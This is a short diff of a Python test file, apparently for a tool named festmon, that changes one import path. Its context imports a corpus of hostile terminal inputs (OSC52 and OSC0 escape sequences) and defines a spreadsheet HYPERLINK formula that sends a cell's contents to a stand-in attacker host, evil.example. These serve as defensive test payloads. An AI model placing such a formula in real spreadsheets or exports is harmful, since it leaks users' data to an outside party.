@@ -16,7 +16,7 @@ from pathlib import Path
 from tests.hostile_corpus import CLICK_MARKUP, HOSTILE, OSC0, OSC52, assert_terminal_safe
 from tests.pty_run import PtyResult, festmon_on_pty
 from tests.reliability.cli import environment, festmon_bytes, run
-from tests.reliability.conftest import Database
+from tests.reliability.server import Database
 from tests.reliability.test_hostile_input import failed_payment
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
